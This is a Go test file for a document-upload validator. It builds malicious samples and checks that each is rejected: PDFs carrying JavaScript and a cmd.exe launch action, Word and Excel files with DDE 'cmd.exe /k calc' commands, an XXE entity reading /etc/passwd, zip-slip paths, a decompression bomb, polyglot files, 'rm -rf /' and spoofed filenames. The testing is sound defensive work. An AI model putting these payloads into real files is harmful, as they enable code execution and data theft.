package file_test

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/jpeg"
	"image/png"
	"strings"
	"testing"

	"golang.org/x/text/encoding/simplifiedchinese"

	"tongban/internal/base/fault"
	"tongban/internal/base/file"
)

const contentTypes = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>`

type part struct{ name, text string }

func pack(parts ...part) []byte {
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for _, p := range parts {
		w, err := z.Create(p.name)
		if err == nil {
			_, err = w.Write([]byte(p.text))
		}
		if err != nil {
			panic(err)
		}
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return out.Bytes()
}

func docx(more ...part) []byte {
	return pack(append([]part{{"[Content_Types].xml", contentTypes}, {"word/document.xml", "<w:document>申请书</w:document>"}}, more...)...)
}

func xlsx(more ...part) []byte {
	return pack(append([]part{{"[Content_Types].xml", contentTypes}, {"xl/workbook.xml", "<workbook/>"}}, more...)...)
}

func ofd(more ...part) []byte {
	return pack(append([]part{{"OFD.xml", "<ofd:OFD/>"}, {"Doc_0/Document.xml", "<ofd:Document/>"}}, more...)...)
}

func pdf(body string) []byte {
	return []byte("%PDF-1.7\n1 0 obj <</Type /Catalog " + body + ">> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n")
}

// packedPDF hides a body in a compressed object stream.
func packedPDF(body string) []byte {
	var z bytes.Buffer
	w := zlib.NewWriter(&z)
	w.Write([]byte(body))
	w.Close()
	return []byte(fmt.Sprintf("%%PDF-1.7\n2 0 obj <</Type /ObjStm /Filter /FlateDecode /Length %d>>\nstream\n%s\nendstream endobj\n%%%%EOF\n", z.Len(), z.Bytes()))
}

func picture(encode func(*bytes.Buffer, image.Image) error) []byte {
	var out bytes.Buffer
	if err := encode(&out, image.NewGray(image.Rect(0, 0, 8, 8))); err != nil {
		panic(err)
	}
	return out.Bytes()
}

func pngBytes() []byte {
	return picture(func(b *bytes.Buffer, i image.Image) error { return png.Encode(b, i) })
}

func jpegBytes() []byte {
	return picture(func(b *bytes.Buffer, i image.Image) error { return jpeg.Encode(b, i, nil) })
}

// flood is a tiny PNG that says it is 50,000 by 50,000.
func flood() []byte {
	b := pngBytes()
	binary.BigEndian.PutUint32(b[16:], 50_000)
	binary.BigEndian.PutUint32(b[20:], 50_000)
	binary.BigEndian.PutUint32(b[29:], crc32.ChecksumIEEE(b[12:29]))
	return b
}

func bomb() []byte { return docx(part{"word/media/zeros.bin", strings.Repeat("\x00", 160<<20)}) }

func manyParts() []byte {
	parts := make([]part, 2001)
	for i := range parts {
		parts[i] = part{fmt.Sprintf("word/p%d.bin", i), "x"}
	}
	return docx(parts...)
}

// lying is a package whose part unpacks to more than it says.
func lying() []byte {
	b := docx()
	at := bytes.LastIndex(b, []byte("PK\x01\x02"))
	binary.LittleEndian.PutUint32(b[at+24:], 3)
	return b
}

func TestZooOfFilesThatAreTurnedDown(t *testing.T) {
	rels := func(body string) part {
		return part{"word/_rels/settings.xml.rels", "<Relationships>" + body + "</Relationships>"}
	}
	s := open(t)
	for _, row := range []struct {
		name, file string
		bytes      []byte
		want       string // a word of the answer
	}{
		{"an empty file", "a.pdf", nil, "空的"},
		{"a page called text", "a.txt", []byte("<html><script>alert(1)</script></html>"), "不支持"},
		{"a page called picture", "a.png", []byte("<!doctype html><script>1</script>"), "不支持"},
		{"a drawing with a script", "a.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>`), "不支持"},
		{"a drawing called text", "a.txt", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>`), "不支持"},
		{"text with a script far inside", "a.txt", []byte(strings.Repeat("说明\n", 2000) + "<script>x</script>"), "脚本"},
		{"a mail archive with a page", "a.txt", []byte("MIME-Version: 1.0\nContent-Type: text/html\n\n<html></html>"), "脚本"},
		{"a shell script", "a.txt", []byte("#!/bin/sh\nrm -rf /\n"), "不支持"},
		{"a Windows program", "a.pdf", append([]byte("MZ\x90\x00"), make([]byte, 200)...), "不支持"},
		{"a Linux program", "a.docx", append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 200)...), "不支持"},
		{"a PDF called picture", "a.jpg", pdf(""), "后缀"},
		{"a picture called PDF", "a.pdf", pngBytes(), "后缀"},
		{"a picture called page", "a.html", pngBytes(), "后缀"},
		{"a PDF called program behind a direction mark", "a\u202efdp.exe", pdf(""), "后缀"},
		{"a PDF with a password", "a.pdf", pdf("/Encrypt 5 0 R"), "密码"},
		{"a PDF with a script", "a.pdf", pdf("/OpenAction <</S /JavaScript /JS (app.alert(1))>>"), "脚本"},
		{"a PDF with a hidden script", "a.pdf", pdf("/OpenAction <</S /J#61vaScript /J#53 (x)>>"), "脚本"},
		{"a PDF with a packed script", "a.pdf", packedPDF("<</S /JavaScript /JS (x)>>"), "脚本"},
		{"a PDF that starts a program", "a.pdf", pdf("/AA <</O <</S /Launch /F (cmd.exe)>>>>"), "可执行"},
		{"a PDF with a file inside", "a.pdf", pdf("/Names <</EmbeddedFiles 3 0 R>>"), "内嵌文件"},
		{"a PDF with an old form language", "a.pdf", pdf("/AcroForm <</XFA 3 0 R>>"), "脚本"},
		{"a PDF that is cut off", "a.pdf", pdf("")[:30], "不完整"},
		{"a PDF with an archive behind it", "a.pdf", append(pdf(""), pack(part{"x.bin", randomText(3000)})...), "尾部"},
		{"a PDF that is a page too", "a.pdf", pdf("/Title <!--><html><script>alert(1)</script><!--"), "网页"},
		{"a PDF that opens as an archive", "a.pdf", archivePDF(), "压缩包"},
		{"a picture that opens as an archive", "a.png", append(pngBytes(), pack(part{"x.bin", randomText(3000)})...), "压缩包"},
		{"an archive", "a.zip", pack(part{"a.txt", "x"}), "解压"},
		{"an archive called document", "a.docx", pack(part{"a.txt", "x"}), "不支持"},
		{"a document with macros", "a.docx", docx(part{"word/vbaProject.bin", "x"}), "宏"},
		{"a document that says it has macros", "a.docx", pack(part{"[Content_Types].xml", "<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"}, part{"word/document.xml", "<w/>"}), "宏"},
		{"a document called as one with macros", "a.docm", docx(), "后缀"},
		{"a document with an outside template", "a.docx", docx(rels(`<Relationship Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>`)), "外部"},
		{"a document with an entity", "a.docx", docx(part{"word/styles.xml", `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`}), "损坏"},
		{"a document with a command field", "a.docx", docx(part{"word/header1.xml", `<w:instrText xml:space="preserve"> DDEAUTO c:\\cmd.exe "/k calc"</w:instrText>`}), "外部命令"},
		{"a document with a program", "a.docx", docx(part{"word/media/run.exe", "MZ"}), "程序"},
		{"a document with a control", "a.docx", docx(part{"word/activeX/activeX1.bin", "x"}), "控件"},
		{"a document with another inside", "a.docx", docx(part{"word/embeddings/oleObject1.bin", "x"}), "嵌入"},
		{"a table with a command link", "a.xlsx", xlsx(part{"xl/externalLinks/externalLink1.xml", `<ddeLink ddeService="cmd" ddeTopic="/c calc"/>`}), "外部命令"},
		{"a table with old macros", "a.xlsx", xlsx(part{"xl/macrosheets/sheet1.xml", "<x/>"}), "宏"},
		{"a part that climbs out", "a.docx", docx(part{"../../etc/cron.d/x", "x"}), "损坏"},
		{"a part that climbs out backwards", "a.docx", docx(part{`..\..\x`, "x"}), "损坏"},
		{"a part with an absolute name", "a.docx", docx(part{"/etc/passwd", "x"}), "损坏"},
		{"two parts with one name", "a.docx", docx(part{"word/a.xml", "<a/>"}, part{"word/A.xml", "<b/>"}), "损坏"},
		{"a bomb", "a.docx", bomb(), "解压后过大"},
		{"too many parts", "a.docx", manyParts(), "过多"},
		{"a part that lies about its size", "a.docx", lying(), "损坏"},
		{"a package cut off", "a.docx", docx()[:100], "不支持"},
		{"an OFD with a page", "a.ofd", ofd(part{"Doc_0/Res/x.html", "<script/>"}), "网页"},
		{"an OFD with an entity", "a.ofd", ofd(part{"Doc_0/x.xml", `<!DOCTYPE x>`}), "损坏"},
		{"a picture too large to open", "a.png", flood(), "像素"},
		{"a picture cut off", "a.png", pngBytes()[:20], "打不开"},
		{"a picture with a page behind it", "a.jpg", append(jpegBytes(), "<script>alert(1)</script>"...), "夹带"},
		{"a moving picture", "a.gif", []byte("GIF89a/*\x01\x00\x01\x00*/=1;alert(1)"), "转换"},
		{"an old document", "a.doc", append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 1024)...), "另存为"},
		{"text with a zero", "a.txt", []byte("abc\x00def"), "不支持"},
		{"bytes that mean nothing", "a.txt", []byte{0xff, 0xff, 0xff, 0x80, 0x81, 0xff, 0xff}, "不能显示"},
		{"one byte too many", "a.txt", bytes.Repeat([]byte("a"), 4<<20+1), "超过4MB"},
	} {
		_, err := s.save(row.file, row.bytes)
		if fault.KindOf(err) != fault.KindInvalid || !strings.Contains(fault.MessageOf(err), row.want) {
			t.Errorf("%s: %v, want %q", row.name, err, row.want)
		}
	}
	if left := s.onDisk(); left != 0 {
		t.Errorf("%d files left behind", left)
	}
}

// archivePDF is a PDF whose end is the comment of an archive.
func archivePDF() []byte {
	var out bytes.Buffer
	out.WriteString("%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\n2 0 obj <</Length 9>>\nstream\n")
	z := zip.NewWriter(&out)
	z.SetOffset(int64(out.Len()))
	w, err := z.Create("x.bin")
	if err == nil {
		_, err = w.Write([]byte("x"))
	}
	if err == nil {
		err = z.SetComment("\nendstream endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n")
	}
	if err == nil {
		err = z.Close()
	}
	if err != nil {
		panic(err)
	}
	return out.Bytes()
}

// randomText does not pack, so that an archive of it is long.
func randomText(n int) string {
	out := make([]byte, n)
	state := uint32(1)
	for i := range out {
		state = state*1664525 + 1013904223
		out[i] = byte(state >> 24)
	}
	return string(out)
}

func TestFilesThatPeopleReallyHaveAreTaken(t *testing.T) {
	gb, err := simplifiedchinese.GB18030.NewEncoder().Bytes([]byte("兹证明林晓梅为我单位员工，特此证明。"))
	if err != nil {
		t.Fatal(err)
	}
	link := part{"word/_rels/document.xml.rels", `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.gov.cn" TargetMode="External"/></Relationships>`}
	s := open(t)
	for _, row := range []struct {
		name, file string
		bytes      []byte
		want       string
	}{
		{"a PDF", "营业执照.pdf", pdf(""), "application/pdf"},
		{"a PDF with chance words in a picture", "扫描.PDF", []byte("%PDF-1.4\n3 0 obj <</Subtype /Image>>\nstream\n/JS /Encrypt /Launch \nendstream\n%%EOF"), "application/pdf"},
		{"a photograph", "身份证.JPG", jpegBytes(), "image/jpeg"},
		{"a photograph with the other ending", "身份证.jpeg", jpegBytes(), "image/jpeg"},
		{"a screenshot", "截图.png", pngBytes(), "image/png"},
		{"an OFD", "发票.ofd", ofd(), "application/ofd"},
		{"a document with a link", "申请书.docx", docx(link), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"},
		{"a table", "人员名单.xlsx", xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"},
		{"text", "说明.txt", []byte("第一条，第二条。\n第三条"), "text/plain"},
		{"text in GB 18030", "证明.txt", gb, "text/plain"},
		{"a list that looks like a table", "名单.txt", []byte("a,b\n1,2\n3,4\n"), "text/plain"},
		{"a list", "名单.csv", []byte("姓名,部门\n张敏,受理\n"), "text/csv"},
		{"one letter", "a.txt", []byte("是"), "text/plain"},
	} {
		f, err := s.save(row.file, row.bytes)
		if err != nil || f.Type != row.want || f.Name != row.file {
			t.Errorf("%s: %q %q, %v", row.name, f.Name, f.Type, err)
		}
	}
}

func TestNamesAreCleaned(t *testing.T) {
	for _, row := range []struct{ name, in, want string }{
		{"a path is cut", "../../etc/passwd", "passwd"},
		{"a Windows path is cut", `C:\Users\x\申请.pdf`, "申请.pdf"},
		{"direction marks go", "发票\u202efdp.exe", "发票fdp.exe"},
		{"isolates go", "\u2066a\u2069.pdf", "a.pdf"},
		{"zero-width letters go", "a\u200b\ufeff.pdf", "a.pdf"},
		{"zeros go", "a.pdf\x00.exe", "a.pdf.exe"},
		{"line breaks go", "a\r\nSet-Cookie: x=1.pdf", "aSet-Cookie_ x=1.pdf"},
		{"marks of a shell are replaced", `a<b>"|?*.pdf`, "a_b_____.pdf"},
		{"a device is marked", "CON.pdf", "_CON.pdf"},
		{"a numbered device is marked", "lpt1", "_lpt1"},
		{"dots alone are no name", "...", "文件"},
		{"nothing is no name", "", "文件"},
		{"bytes that are no letters go", "a\xff\xfe.pdf", "a.pdf"},
		{"dots at the end go", "a.pdf. .", "a.pdf"},
		{"a long name keeps its ending", strings.Repeat("证", 300) + ".pdf", strings.Repeat("证", 58) + ".pdf"},
	} {
		if got := file.CleanName(row.in); got != row.want {
			t.Errorf("%s: %q", row.name, got)
		}
	}
}
